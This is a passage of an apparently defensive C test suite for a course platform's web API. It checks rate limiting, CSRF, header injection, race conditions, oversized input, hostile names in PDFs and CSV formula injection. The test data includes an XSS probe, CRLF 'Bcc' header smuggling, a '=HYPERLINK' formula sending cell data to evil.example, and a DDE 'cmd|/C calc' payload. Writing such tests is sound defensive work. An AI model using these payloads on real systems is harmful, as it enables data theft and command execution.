	char code[64], up[64], path[12000];
	struct ts_browser *guesser = ts_browser_new(&srv, "127.0.0.91");
	struct ts_browser *other = ts_browser_new(&srv, "127.0.0.92");
	const struct ts_res *r;
	size_t i;
	static const char *const odd[] = { "%s=", "%s%%3D%%3D%%3D%%3D%%3D%%3D", "%s%%20",
		"%%20%s", "%%00%s", "%s/", "%s.pdf.pdf", "%s%%C2%%A0", "%s.json", "%s%%0d%%0aX:y" };

	(void)state;
	assert_string_not_equal(code_of(FAY_, code, sizeof code), "");
	assert_int_equal(strlen(code), 26);
	STATUS(ts_get(other, tc_path("/api/v1/certificates/%s", code)), 200);
	/* case: the code is lower case; upper case is another code */
	for (i = 0; code[i]; i++)
		up[i] = (char)(code[i] >= 'a' && code[i] <= 'z' ? code[i] - 32 : code[i]);
	up[i] = '\0';
	r = ts_get(guesser, tc_path("/api/v1/certificates/%s", up));
	STATUS(r, 404);
	LACKS(r, names[FAY_]);
	for (i = 0; i < sizeof odd / sizeof odd[0]; i++) {
		snprintf(path, sizeof path, "/api/v1/certificates/");
		snprintf(path + strlen(path), sizeof path - strlen(path), odd[i], code);
		r = ts_get(guesser, path);
		if (r->status == 200)
			printf("# %s answered 200\n", path);
		assert_true(r->status == 404 || r->status == 400);
		LACKS(r, names[FAY_]);
	}
	/* an encoded NUL ends the path's text (the server's URL decoding, every
	 * route's: calls_attack_test, countries_attack_test), so "code%00" is
	 * the code's own certificate, never another's */
	r = ts_get(guesser, tc_path("/api/v1/certificates/%s%%00zz", code));
	if (r->status == 200)
		HAS(r, names[FAY_]);
	STATUS(ts_get(guesser, tc_path("/api/v1/certificates/%.13s%%00%s", code, code + 13)), 404);
	/* a prefix, a unicode look-alike (Cyrillic a), very long */
	r = ts_get(guesser, tc_path("/api/v1/certificates/%.25s", code));
	STATUS(r, 404);
	r = ts_get(guesser, tc_path("/api/v1/certificates/%%D0%%B0%s", code + 1));
	STATUS(r, 404);
	memset(path, 0, sizeof path);
	snprintf(path, sizeof path, "/certificates/");
	memset(path + strlen(path), 'a', 10000);
	r = ts_get(guesser, path);
	assert_true(r->status == 404 || r->status == 414 || r->status == 429 ||
	    r->status == 431 || r->status == 400);
	/* the guesser goes on past the limit: 429, even for the real code */
	for (i = 0; i < 40; i++)
		r = ts_get(guesser, tc_path("/api/v1/certificates/%026zu", i));
	STATUS(r, 429);
	STATUS(ts_get(guesser, tc_path("/api/v1/certificates/%s", code)), 429);
	/* nobody else is locked out: not by the guesser, not by a forged
	 * X-Forwarded-For naming another's address */
	STATUS(ts_get(other, tc_path("/api/v1/certificates/%s", code)), 200);
	STATUS(ts_get(other, tc_path("/certificates/%s.pdf", code)), 200);
	{
		static const char *const fwd[] = { "X-Forwarded-For: 127.0.0.93", NULL };
		struct ts_browser *mallory = ts_browser_new(&srv, "127.0.0.94");
		struct ts_browser *victim = ts_browser_new(&srv, "127.0.0.93");

		for (i = 0; i < 40; i++)
			r = ts_req(mallory, "GET", tc_path("/api/v1/certificates/%026zu", i), fwd,
			    NULL, 0);
		STATUS(ts_get(victim, tc_path("/api/v1/certificates/%s", code)), 200);
		ts_browser_free(mallory);
		ts_browser_free(victim);
	}
	ts_browser_free(guesser);
	ts_browser_free(other);
}

/* Names no form lets in (put in the database as an import or an old
 * version might): the PDF is made, in bounded time, every time; the page
 * and its twin answer.  The long ones are grown in the database by
 * doubling (the test's SQL is short). */
static void
test_hostile_pdf(void **state)
{
	static const struct {
		const char *seed;	/* the name at first */
		int doublings;		/* name = name || name, so many times */
		const char *then;	/* then name = this (SQL), or NULL */
	} names_[] = {
		/* very long: 9 x 2^13 = 73,728 characters */
		{ "abcd efg ", 13, NULL },
		/* right-to-left override and isolates, Arabic, markup */
		{ "\xe2\x80\xae" "fdp.exe\xe2\x80\xac Ada \xe2\x81\xa7" "x\xe2\x81\xa9 \xd8\xb9\xd8\xb1"
		  "\xd8\xa8\xd9\x8a <script>alert(1)</script>", 0, NULL },
		/* control characters, a header's line break */
		{ "Ctl\x01\x02\x07\x08\x1b[31mRed\x7f\x0bVT\x0c" "FF\r\nBcc: x@y\t\xc2\x85NEL", 0,
		  NULL },
		/* 10,000 combining marks on one letter: 2^13 = 8192, then 1808 more */
		{ "\xcc\x81", 13, "'a' || name || substr(name, 1, 1808)" },
		/* emoji, joiners, flags, variation selectors, a tag character */
		{ "\xf0\x9f\x91\xa9\xe2\x80\x8d\xf0\x9f\x9a\x80 \xf0\x9f\x87\xb0\xf0\x9f\x87\xaa "
		  "\xe2\x9d\xa4\xef\xb8\x8f \xf0\x9f\x8f\xb3\xef\xb8\x8f\xe2\x80\x8d\xf0\x9f\x8c\x88 "
		  "\xf3\xa0\x80\x81", 0, NULL },
	};
	const struct ts_res *r;
	size_t i;
	int k;

	(void)state;
	for (i = 0; i < sizeof names_ / sizeof names_[0]; i++) {
		char code[27];
		int64_t t0;

		snprintf(code, sizeof code, "hostile%c2222222222222222222", (char)('a' + i));
		ts_sql_int("INSERT INTO course_completions (code, completed_at, user_id, course_id, "
		    "cohort_id, name, course_title, cohort_title, hours) VALUES ('%s', %lld, %lld, "
		    "NULL, NULL, '%s', 'Course', 'Cohort', 2147483647)", code,
		    (long long)tc_now(), (long long)uid[DEE_], names_[i].seed);
		for (k = 0; k < names_[i].doublings; k++)
			ts_sql_int("UPDATE course_completions SET name = name || name WHERE code = '%s'",
			    code);
		if (names_[i].then)
			ts_sql_int("UPDATE course_completions SET name = %s WHERE code = '%s'",
			    names_[i].then, code);
		/* the course's and cohort's titles as hostile as the name */
		ts_sql_int("UPDATE course_completions SET course_title = name, cohort_title = name "
		    "WHERE code = '%s'", code);
		t0 = ts_now_ms();
		r = ts_get(plain, tc_path("/certificates/%s.pdf", code));
		STATUS(r, 200);
		assert_true(r->len > 5 && strncmp(r->body, "%PDF-", 5) == 0);
		printf("# name %zu: the PDF in %lld ms, %zu bytes\n", i, (long long)(ts_now_ms() -
		    t0), r->len);
		assert_true(ts_now_ms() - t0 < 60000);
		r = ts_get(plain, tc_path("/certificates/%s", code));
		STATUS(r, 200);
		LACKS(r, "<script>alert(1)");
		STATUS(tc_api("GET", tc_path("/api/v1/certificates/%s", code), NULL, NULL), 200);
	}
	/* the server still answers */
	STATUS(tc_api("GET", "/api/v1/courses", NULL, NULL), 200);
	ts_sql_int("DELETE FROM course_completions WHERE code LIKE 'hostile%%'");
}

/* The tutors' CSV: a participant's name that is a formula is a cell of
 * text; only staff get it. */
static void
test_csv(void **state)
{
	struct ts_browser *staff;
	const struct ts_res *r;

	(void)state;
	ts_sql_int("UPDATE users SET name = '=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")' "
	    "WHERE id = %lld", (long long)uid[BO_]);
	staff = ts_signed_in(&srv, NULL, emails[STAFF_], PW);
	assert_non_null(staff);
	r = ts_get(staff, tc_path("/staff/courses/%lld/cohorts/%lld/table.csv", (long long)course,
	    (long long)kb));
	STATUS(r, 200);
	LACKS(r, ",=HYPERLINK");
	LACKS(r, "\n=HYPERLINK");
	LACKS(r, "\"=HYPERLINK");
	HAS(r, "'=HYPERLINK");
	/* the completion rates' CSV: a cohort's title that is a formula */
	ts_sql_int("UPDATE course_cohorts SET title = '@SUM(1+1)*cmd|'' /C calc''!A0' WHERE id = "
	    "%lld", (long long)kb);
	r = ts_get(staff, tc_path("/staff/courses/%lld/completion.csv", (long long)course));
	STATUS(r, 200);
	LACKS(r, ",@SUM");
	HAS(r, "'@SUM");
	ts_sql_int("UPDATE course_cohorts SET title = 'Cohort B' WHERE id = %lld", (long long)kb);
	ts_browser_free(staff);
	ts_sql_int("UPDATE users SET name = '%s' WHERE id = %lld", names[BO_],
	    (long long)uid[BO_]);
}

/* Messages: to nobody outside the cohort (one who left included), no
 * header in a subject; a disabled account is not mailed. */
static void
test_messages(void **state)
{
	const char *path = tc_path("/api/v1/cohorts/%lld/messages", (long long)ka);
	char p[128];
	const struct ts_res *r;
	int64_t before;

	(void)state;
	snprintf(p, sizeof p, "%s", path);
	r = tc_api("POST", p, tok[TUTOR_], json_pack("{s:s,s:s,s:[I,I]}", "subject", "Hi", "body",
	    "Hello", "user_ids", (json_int_t)uid[ADA_], (json_int_t)uid[CY_]));
	STATUS(r, 422);
	HAS(r, "user_ids");
	r = tc_api("POST", p, tok[TUTOR_], json_pack("{s:s,s:s,s:[I]}", "subject", "Hi", "body",
	    "Hello", "user_ids", (json_int_t)uid[GUS_]));
	STATUS(r, 422);
	r = tc_api("POST", p, tok[TUTOR_], json_pack("{s:s,s:s,s:[I]}", "subject", "Hi", "body",
	    "Hello", "user_ids", (json_int_t)uid[BO_]));
	STATUS(r, 422);
	/* header injection */
	r = tc_api("POST", p, tok[TUTOR_], json_pack("{s:s,s:s,s:[I]}", "subject",
	    "Hi\r\nBcc: cy@rillet-x.example", "body", "Hello", "user_ids", (json_int_t)uid[ADA_]));
	STATUS(r, 422);
	HAS(r, "subject");
	r = tc_api("POST", p, tok[TUTOR_], json_pack("{s:s,s:s,s:[I]}", "subject",
	    "Hi\nBcc: cy@rillet-x.example", "body", "Hello", "user_ids", (json_int_t)uid[ADA_]));
	STATUS(r, 422);
	/* a 201-byte subject, a body past 20000 bytes */
	{
		char big[20010];

		memset(big, 'b', sizeof big - 1);
		big[sizeof big - 1] = '\0';
		r = tc_api("POST", p, tok[TUTOR_], json_pack("{s:s,s:s,s:[I]}", "subject", "Hi",
		    "body", big, "user_ids", (json_int_t)uid[ADA_]));
		STATUS(r, 422);
		big[201] = '\0';
		r = tc_api("POST", p, tok[TUTOR_], json_pack("{s:s,s:s,s:[I]}", "subject", big,
		    "body", "x", "user_ids", (json_int_t)uid[ADA_]));
		STATUS(r, 422);
	}
	assert_int_equal(count_sql("SELECT count(*) FROM course_messages WHERE cohort_id = %lld",
	    (long long)ka), 0);
	/* a disabled account: listed, not mailed */
	before = ts_sql_int("SELECT count(*) FROM outbox WHERE to_addr = '%s'", emails[HAL_]);
	ts_sql_int("UPDATE users SET status = 'disabled' WHERE id = %lld", (long long)uid[HAL_]);
	r = tc_api("POST", p, tok[TUTOR_], json_pack("{s:s,s:s,s:[I,I]}", "subject", "A word",
	    "body", "Hello both", "user_ids", (json_int_t)uid[ADA_], (json_int_t)uid[HAL_]));
	STATUS(r, 201);
	assert_int_equal(ts_sql_int("SELECT count(*) FROM outbox WHERE to_addr = '%s'",
	    emails[HAL_]), before);
	assert_int_equal(outbox(ADA_, "A word"), 1);
	ts_sql_int("UPDATE users SET status = 'active' WHERE id = %lld", (long long)uid[HAL_]);
	/* the message is no one else's to read */
	r = tc_api("GET", tc_path("/api/v1/courses/%lld/progress", (long long)course), tok[BO_],
	    NULL);
	LACKS(r, "Hello both");
}

/* A cohort deleted twice at once: deleted once, its participant mailed
 * once; ended enrolments twice at once: one ends it. */
static void
test_delete_at_once(void **state)
{
	struct racer x[4];
	int64_t kx;
	char path[96];
	int i, ok = 0;

	(void)state;
	kx = tc_cohort_made(course, "Throwaway cohort", -DAY, 30 * DAY, uid[TUTOR_]);
	tc_enrolled(kx, uid[CY_]);
	snprintf(path, sizeof path, "/api/v1/cohorts/%lld?confirm=1", (long long)kx);
	for (i = 0; i < 4; i++) {
		x[i].method = "DELETE";
		x[i].path = path;
		x[i].token = tok[STAFF_];
		x[i].body = NULL;
	}
	run_race(x, 4);
	for (i = 0; i < 4; i++) {
		ok += x[i].status == 204;
		assert_true(x[i].status == 204 || x[i].status == 404);
	}
	assert_int_equal(ok, 1);
	assert_int_equal(outbox(CY_, "cancelled"), 1);
	/* an enrolment ended twice at once */
	kx = tc_cohort_made(course, "Second throwaway", -DAY, 30 * DAY, uid[TUTOR_]);
	tc_enrolled(kx, uid[CY_]);
	snprintf(path, sizeof path, "/api/v1/cohorts/%lld/enrolments/%lld", (long long)kx,
	    (long long)uid[CY_]);
	for (i = 0; i < 4; i++) {
		x[i].method = "DELETE";
		x[i].path = path;
		x[i].token = i % 2 ? tok[STAFF_] : tok[CY_];
		x[i].body = NULL;
	}
	run_race(x, 4);
	ok = 0;
	for (i = 0; i < 4; i++) {
		ok += x[i].status == 204;
		assert_true(x[i].status == 204 || x[i].status == 404);
	}
	assert_int_equal(ok, 1);
	assert_true(outbox(CY_, "enrolment in a course has ended") <= 1);
}

/* Waits (up to 30 s) until a run of the reminder job at clock t or later
 * is done (each run says in its progress at which clock it ran). */
static void
run_since(int64_t t)
{
	int64_t t0 = ts_now_ms();

	for (;;) {
		const struct ts_res *r = tc_api("GET", "/api/v1/staff/jobs?status=done&per_page=50",
		    tok[STAFF_], NULL);
		json_t *j, *it;
		size_t i;
		int seen = 0;

		STATUS(r, 200);
		j = ts_jbody(r);
		json_array_foreach(json_object_get(j, "items"), i, it)
			seen |= strcmp(json_string_value(json_object_get(it, "kind")),
			    "course_reminders") == 0 && tc_num(json_object_get(it, "progress"),
			    "clock") >= t;
		json_decref(j);
		if (seen)
			return;
		if (ts_now_ms() - t0 > 30000)
			fail_msg("no reminder run at clock %lld or later", (long long)t);
		{
			struct timespec ts = { 0, 50 * 1000 * 1000 };	/* a poll, not a guess */

			nanosleep(&ts, NULL);
		}
	}
}

static int64_t
reminders_of(int64_t kid, enum who w)
{
	return ts_sql_int("SELECT count(*) FROM course_reminders WHERE cohort_id = %lld AND "
	    "user_id = %lld", (long long)kid, (long long)uid[w]);
}

/* Reminders: none to who left or was removed, none to who finished, one
 * a spell however many runs. */
static void
test_reminders(void **state)
{
	int64_t now = tc_now(), kr, t;

	(void)state;
	kr = tc_cohort_made(course, "Reminded cohort", 3600, 3600 + 40 * DAY, uid[TUTOR_]);
	tc_enrolled(kr, uid[CY_]);
	tc_enrolled(kr, uid[DEE_]);
	tc_enrolled(kr, uid[HAL_]);
	STATUS(tc_api("DELETE", tc_path("/api/v1/cohorts/%lld/enrolments/%lld", (long long)kr,
	    (long long)uid[CY_]), tok[STAFF_], NULL), 204);
	STATUS(tc_api("DELETE", tc_path("/api/v1/cohorts/%lld/enrolments/%lld", (long long)kr,
	    (long long)uid[DEE_]), tok[DEE_], NULL), 204);
	t = now + 3600 + 16 * DAY;
	assert_int_equal(ts_clock_advance(plain, (long)(t - now)), 200);
	tokens();
	run_since(t);
	assert_int_equal(reminders_of(kr, HAL_), 1);
	assert_int_equal(reminders_of(kr, CY_), 0);
	assert_int_equal(reminders_of(kr, DEE_), 0);
	/* cohort A: Gus left, Fay finished */
	assert_int_equal(reminders_of(ka, GUS_), 0);
	assert_int_equal(reminders_of(ka, FAY_), 0);
	/* runs after: nothing more */
	assert_int_equal(ts_clock_advance(plain, 2 * 3600), 200);
	tokens();
	run_since(t + 2 * 3600);
	assert_int_equal(reminders_of(kr, HAL_), 1);
	assert_int_equal(ts_sql_int("SELECT count(*) FROM course_reminders WHERE cohort_id = "
	    "%lld", (long long)kr), 1);
}

/* A disabled account completes (its answers marked), and is mailed
 * nothing: not the marks, not the certificate. */
static void
test_disabled_completes(void **state)
{
	const struct ts_res *r;
	int64_t h1, h2;

	(void)state;
	r = answer(HAL_, ka, t1, "HAL-ANSWER-ONE");
	STATUS(r, 201);
	h1 = tc_id_of(r);
	h2 = ts_sql_int("SELECT id FROM course_posts WHERE user_id = %lld AND task_id = %lld AND "
	    "parent_id IS NULL", (long long)uid[HAL_], (long long)t2);
	ts_sql_int("UPDATE users SET status = 'disabled' WHERE id = %lld", (long long)uid[HAL_]);
	STATUS(mark(TUTOR_, ka, h1, "complete", ""), 200);
	STATUS(mark(TUTOR_, ka, h2, "complete", ""), 200);
	assert_int_equal(count_sql("SELECT count(*) FROM course_completions WHERE user_id = %lld",
	    (long long)uid[HAL_]), 1);
	assert_int_equal(outbox(HAL_, "completed the course"), 0);
	assert_int_equal(outbox(HAL_, "marked complete"), 0);
	ts_sql_int("UPDATE users SET status = 'active' WHERE id = %lld", (long long)uid[HAL_]);
}

/* A deleted account's certificate: its code answers 404, the name is not
 * kept. */
static void
test_deleted_person(void **state)
{
	char code[64];
	const struct ts_res *r;

	(void)state;
	assert_string_not_equal(code_of(FAY_, code, sizeof code), "");
	STATUS(tc_api("DELETE", "/api/v1/me", tok[FAY_], json_pack("{s:s}", "password", PW)), 204);
	r = tc_api("GET", tc_path("/api/v1/certificates/%s", code), NULL, NULL);
	STATUS(r, 404);
	LACKS(r, names[FAY_]);
	r = ts_get(plain, tc_path("/certificates/%s.pdf", code));
	STATUS(r, 404);
	assert_int_equal(ts_sql_int("SELECT count(*) FROM course_completions WHERE name = '%s'",
	    names[FAY_]), 0);
	/* the rates page still answers, naming nobody deleted */
	r = tc_api("GET", tc_path("/api/v1/staff/courses/%lld/completion", (long long)course),
	    tok[STAFF_], NULL);
	STATUS(r, 200);
	LACKS(r, names[FAY_]);
	/* a message to the deleted account: listed, mailed to nobody */
	r = tc_api("POST", tc_path("/api/v1/cohorts/%lld/messages", (long long)ka), tok[TUTOR_],
	    json_pack( "{s:s,s:s,s:[I]}", "subject", "To the deleted", "body", "Hello", "user_ids",
	    (json_int_t)uid[FAY_]));
	STATUS(r, 201);
	assert_int_equal(ts_sql_int("SELECT count(*) FROM outbox WHERE subject LIKE "
	    "'%%To the deleted%%'"), 0);
	/* staff end the deleted account's enrolment: no mail to what was its
	 * address (nor to the placeholder that replaced it) */
	STATUS(tc_api("DELETE", tc_path("/api/v1/cohorts/%lld/enrolments/%lld", (long long)ka,
	    (long long)uid[FAY_]), tok[STAFF_], NULL), 204);
	assert_int_equal(ts_sql_int("SELECT count(*) FROM outbox WHERE to_addr = "
	    "'deleted-%lld@invalid' AND subject <> ''", (long long)uid[FAY_]), 0);
	assert_int_equal(outbox(FAY_, "enrolment"), 0);
}

/* Every new form without its CSRF token: 403, nothing done. */
static void
test_csrf(void **state)
{
	struct ts_browser *ada = ts_signed_in(&srv, NULL, emails[ADA_], PW);
	struct ts_browser *tia = ts_signed_in(&srv, NULL, emails[TUTOR_], PW);
	const char *pairs_body[] = { "body", "CSRF-TEXT", NULL };
	const char *pairs_mark[] = { "decision", "returned", "comment", "CSRF-TEXT", NULL };
	const char *pairs_msg[] = { "subject", "CSRF-TEXT", "body", "CSRF-TEXT", "filter", "all",
		NULL };
	const char *pairs_confirm[] = { "confirm", "1", NULL };
	const char *none[] = { NULL };

	(void)state;
	assert_non_null(ada);
	assert_non_null(tia);
	STATUS(ts_get(ada, tc_path("/courses/%lld", (long long)course)), 200);
	STATUS(ts_post_list(ada, KP(ka, tc_path("tasks/%lld/answer", (long long)t2)), 0,
	    pairs_body), 403);
	STATUS(ts_post_list(ada, KP(ka, tc_path("posts/%lld/reply", (long long)ada_t1)), 0,
	    pairs_body), 403);
	STATUS(ts_post_list(ada, KP(ka, "leave"), 0, none), 403);
	STATUS(ts_get(tia, "/staff/courses"), 200);
	STATUS(ts_post_list(tia, KP(ka, tc_path("posts/%lld/mark", (long long)ada_t1)), 0,
	    pairs_mark), 403);
	STATUS(ts_post_list(tia, tc_path("/staff/courses/%lld/cohorts/%lld/messages",
	    (long long)course, (long long)ka), 0, pairs_msg), 403);
	STATUS(ts_post_list(tia, tc_path("/staff/courses/%lld/cohorts/%lld/delete",
	    (long long)course, (long long)ka), 0, pairs_confirm), 403);
	STATUS(ts_post_list(tia, tc_path("/staff/courses/%lld/cohorts/%lld/enrolments/%lld/delete",
	    (long long)course, (long long)ka, (long long)uid[ADA_]), 0, none), 403);
	/* the API with the session's cookie: JSON needs a CORS preflight no
	 * other site gets (csrf.c); what a cross-site form can send (a form's
	 * encodings, text/plain that looks like JSON) is refused */
	{
		const char *const form[] = { "Content-Type: application/x-www-form-urlencoded",
			"Accept: application/json", NULL };
		const char *const text[] = { "Content-Type: text/plain", "Accept: "
			"application/json", NULL };
		const char *path = K(ka, tc_path("tasks/%lld/answer", (long long)t2));
		long st;

		st = ts_req(ada, "POST", path, form, "body=CSRF-TEXT", 14)->status;
		assert_true(st == 403 || st == 415 || st == 400);
		st = ts_req(ada, "POST", path, text, "{\"body\":\"CSRF-TEXT\"}", 20)->status;
		assert_true(st == 403 || st == 415 || st == 400);
	}
	ts_browser_free(ada);
	ts_browser_free(tia);
	assert_int_equal(count_sql("SELECT count(*) FROM course_posts WHERE body = 'CSRF-TEXT' OR "
	    "comment = 'CSRF-TEXT' OR %lld = 0", 1), 0);
	assert_int_equal(count_sql("SELECT count(*) FROM course_messages WHERE subject = "
	    "'CSRF-TEXT' OR %lld = 0", 1), 0);
	assert_int_equal(count_sql("SELECT count(*) FROM course_enrolments WHERE cohort_id = %lld",
	    (long long)ka) > 0, 1);
	assert_int_equal(count_sql("SELECT count(*) FROM course_cohorts WHERE id = %lld",
	    (long long)ka), 1);
}

/* Methods a route does not take: 405 (or 404 where no route is), never
 * the action. */
static void
test_methods(void **state)
{
	const struct ts_res *r;
	static const char *const m[] = { "PUT", "PATCH", "DELETE" };
	size_t i;

	(void)state;
	for (i = 0; i < 3; i++) {
		r = tc_api(m[i], K(ka, "discussion"), tok[STAFF_], NULL);
		assert_true(r->status == 405 || r->status == 404);
		r = tc_api(m[i], K(ka, tc_path("posts/%lld/mark", (long long)ada_t1)), tok[STAFF_],
		    json_pack("{s:s}", "decision", "returned"));
		assert_true(r->status == 405 || r->status == 404);
		r = tc_api(m[i], "/api/v1/certificates/aaaaaaaaaaaaaaaaaaaaaaaaaa", tok[STAFF_],
		    NULL);
		assert_true(r->status == 405 || r->status == 404);
	}
	r = tc_api("GET", K(ka, tc_path("posts/%lld/mark", (long long)ada_t1)), tok[STAFF_], NULL);
	assert_true(r->status == 405 || r->status == 404);
	r = tc_api("GET", K(ka, tc_path("tasks/%lld/answer", (long long)t1)), tok[ADA_], NULL);
	assert_true(r->status == 405 || r->status == 404);
	r = tc_api("POST", tc_path("/api/v1/certificates/aaaaaaaaaaaaaaaaaaaaaaaaaa"), tok[STAFF_],
	    NULL);
	assert_true(r->status == 405 || r->status == 404);
	r = tc_api("POST", tc_path("/api/v1/staff/courses/%lld/completion", (long long)course),
	    tok[STAFF_], NULL);
	assert_true(r->status == 405 || r->status == 404);
	/* GET a cohort's deletion: not a deletion */
	r = ts_get(plain, tc_path("/staff/courses/%lld/cohorts/%lld/delete", (long long)course,
	    (long long)ka));
	assert_true(r->status == 405 || r->status == 404 || r->status == 303);
	assert_int_equal(count_sql("SELECT count(*) FROM course_cohorts WHERE id = %lld",
	    (long long)ka), 1);
	assert_int_equal(count_sql("SELECT count(*) FROM course_posts WHERE id = %lld AND "
	    "status = 'complete'", (long long)ada_t1), 1);
}

/* Oversized and odd input: refused with the field named, nothing stored. */
static void
test_oversized(void **state)
{
	const struct ts_res *r;
	char *big = malloc(1100001);
	int64_t hal_t2;

	(void)state;
	memset(big, 'x', 1100000);
	big[1100000] = '\0';
	r = answer(HAL_, ka, t2, big);
	assert_true(r->status == 413 || r->status == 422);
	big[201] = '\0';	/* past the task's 200 */
	r = answer(HAL_, ka, t2, big);
	STATUS(r, 422);
	HAS(r, "\"body\"");
	r = answer(HAL_, ka, t2, "HAL-ANSWER");
	STATUS(r, 201);
	hal_t2 = tc_id_of(r);
	memset(big, 'y', 5001);
	big[5001] = '\0';
	r = reply(HAL_, ka, hal_t2, big);
	STATUS(r, 422);
	memset(big, 'z', 2001);
	big[2001] = '\0';
	r = mark(TUTOR_, ka, hal_t2, "returned", big);
	STATUS(r, 422);
	HAS(r, "\"comment\"");
	STATUS(mark(TUTOR_, ka, hal_t2, "returned", "   "), 422);
	STATUS(mark(TUTOR_, ka, hal_t2, "maybe", "x"), 422);
	STATUS(mark(TUTOR_, ka, hal_t2, "returned", "Bell\x07"), 422);
	STATUS(tc_api("POST", K(ka, tc_path("posts/%lld/mark", (long long)hal_t2)), tok[TUTOR_],
	    json_pack("{s:i,s:[]}", "decision", 1, "comment")), 422);
	STATUS(answer(HAL_, ka, t2, "NUL-free\x01"), 422);
	STATUS(tc_api("POST", K(ka, tc_path("tasks/%lld/answer", (long long)t2)), tok[HAL_],
	    json_pack("[s]", "x")), 400);	/* not an object: the server's 400 */
	STATUS(tc_api("POST", K(ka, tc_path("tasks/%lld/answer", (long long)t2)), tok[HAL_],
	    json_pack("{s:i}", "body", 5)), 422);
	/* paging */
	STATUS(tc_api("GET", K(ka, "discussion?per_page=100000"), tok[HAL_], NULL), 422);
	STATUS(tc_api("GET", K(ka, "discussion?page=0"), tok[HAL_], NULL), 422);
	STATUS(tc_api("GET", K(ka, "discussion?page=-1"), tok[HAL_], NULL), 422);
	r = tc_api("GET", K(ka, "discussion?page=99999999999999999999"), tok[HAL_], NULL);
	assert_true(r->status == 422 || r->status == 200);
	/* ids past 64 bits, or not numbers */
	STATUS(tc_api("GET", tc_path("/api/v1/courses/%lld/cohorts/99999999999999999999/discussion",
	    (long long)course), tok[HAL_], NULL), 404);
	STATUS(tc_api("GET", K(ka, "tasks/-1"), tok[HAL_], NULL), 404);
	STATUS(reply(HAL_, ka, 0, "x"), 404);
	/* a table's query and a message's filter out of their lists */
	r = tc_api("GET",
	    tc_path("/api/v1/staff/courses/%lld/cohorts/%lld/table?sort=email;drop&dir=up",
	    (long long)course, (long long)ka), tok[STAFF_], NULL);
	STATUS(r, 422);
	r = tc_api("POST", tc_path("/api/v1/cohorts/%lld/messages", (long long)ka), tok[TUTOR_],
	    json_pack( "{s:s,s:s,s:s}", "subject", "Hi", "body", "x", "filter", "everyone"));
	STATUS(r, 422);
	free(big);
	assert_int_equal(count_sql("SELECT count(*) FROM course_posts WHERE user_id = %lld",
	    (long long)uid[HAL_]), 1);
}

/* ---- set-up ------------------------------------------------------------- */

static int
setup(void **state)
{
	const struct ts_res *r;
	int i;

	(void)state;
	if (ts_suite_start(&sink, &srv, &db_url, NULL) != 0)
		return -1;
	plain = ts_browser_new(&srv, NULL);
	tc_use(plain, tok[STAFF_]);
	rillet = ts_org_import(db_url, "Rillet Attack Trust", "KE", "info@rillet-x.example", NULL);
	assert_true(rillet > 0);
	for (i = 0; i < WHO__MAX; i++) {
		uid[i] = ts_person_add(db_url, emails[i], names[i], roles[i],
		    strcmp(roles[i], "member") ? 0 : rillet, PW);
		assert_true(uid[i] > 0);
	}
	for (i = 0; i < WHO__MAX; i++)
		assert_int_equal(ts_token(plain, emails[i], PW, tok[i], sizeof tok[i]), 0);
	ts_db_open(db_url);
	ts_sql_int("UPDATE users SET verified_at = NULL WHERE id = %lld", (long long)uid[UNA_]);
	{
		struct ts_browser *staff = ts_signed_in(&srv, NULL, emails[STAFF_], PW);

		assert_non_null(staff);
		assert_int_equal(ts_org_admin(staff, rillet, uid[OLA_]), 0);
		ts_browser_free(staff);
	}
	r = tc_api("POST", "/api/v1/courses", tok[STAFF_], json_pack("{s:s,s:s,s:b,s:b,s:b}",
	    "title", "Second attack course", "status", "published", "complete_lessons", 0,
	    "complete_quizzes", 0, "complete_tasks", 1));
	STATUS(r, 201);
	course = tc_id_of(r);
	m1 = tc_module_made(course, "First module");
	m2 = tc_module_made(course, "Second module");
	r = tc_api("POST", tc_path("/api/v1/courses/%lld/modules/%lld/task", (long long)course,
	    (long long)m1), tok[STAFF_], json_pack("{s:s,s:i}", "title", "Share one", "max_length",
	    200));
	STATUS(r, 201);
	t1 = tc_id_of(r);
	r = tc_api("POST", tc_path("/api/v1/courses/%lld/modules/%lld/task", (long long)course,
	    (long long)m2), tok[STAFF_], json_pack("{s:s,s:i}", "title", "Share two", "max_length",
	    200));
	STATUS(r, 201);
	t2 = tc_id_of(r);
	ka = tc_cohort_made(course, "Cohort A", -DAY, 60 * DAY, uid[TUTOR_]);
	kb = tc_cohort_made(course, "Cohort B", -DAY, 60 * DAY, uid[TUTOR2_]);
	kended = tc_cohort_made(course, "Ended cohort", -60 * DAY, -DAY, uid[TUTOR_]);
	tc_enrolled(ka, uid[ADA_]);
	tc_enrolled(ka, uid[FAY_]);
	tc_enrolled(ka, uid[GUS_]);
	tc_enrolled(ka, uid[HAL_]);
	tc_enrolled(kb, uid[BO_]);
	tc_enrolled(kended, uid[DEE_]);
	r = answer(ADA_, ka, t1, "ADA-ANSWER-ONE");
	STATUS(r, 201);
	ada_t1 = tc_id_of(r);
	STATUS(answer(BO_, kb, t1, "BO-ANSWER-ONE"), 201);
	return 0;
}

static int
teardown(void **state)
{
	(void)state;
	ts_db_close();
	ts_browser_free(plain);
	ts_cleanup();
	return 0;
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_visitor),
		cmocka_unit_test(test_outsiders),
		cmocka_unit_test(test_other_cohort),
		cmocka_unit_test(test_marks_and_replies),
		cmocka_unit_test(test_former_tutor),
		cmocka_unit_test(test_draft),
		cmocka_unit_test(test_ended),
		cmocka_unit_test(test_left),
		cmocka_unit_test(test_completion_at_once),
		cmocka_unit_test(test_reading_at_once),
		cmocka_unit_test(test_quiz_and_mark_at_once),
		cmocka_unit_test(test_codes),
		cmocka_unit_test(test_hostile_pdf),
		cmocka_unit_test(test_csv),
		cmocka_unit_test(test_messages),
		cmocka_unit_test(test_delete_at_once),
		cmocka_unit_test(test_csrf),
		cmocka_unit_test(test_methods),
		cmocka_unit_test(test_oversized),
		cmocka_unit_test(test_reminders),
		cmocka_unit_test(test_disabled_completes),
		cmocka_unit_test(test_deleted_person),
	};

	setvbuf(stdout, NULL, _IOLBF, 0);	/* lines survive a timeout's kill */
	if (getenv("WHATSON_TEST_ONLY"))
		cmocka_set_test_filter(getenv("WHATSON_TEST_ONLY"));
	return cmocka_run_group_tests_name("courses_attack2", tests, setup, teardown);
}
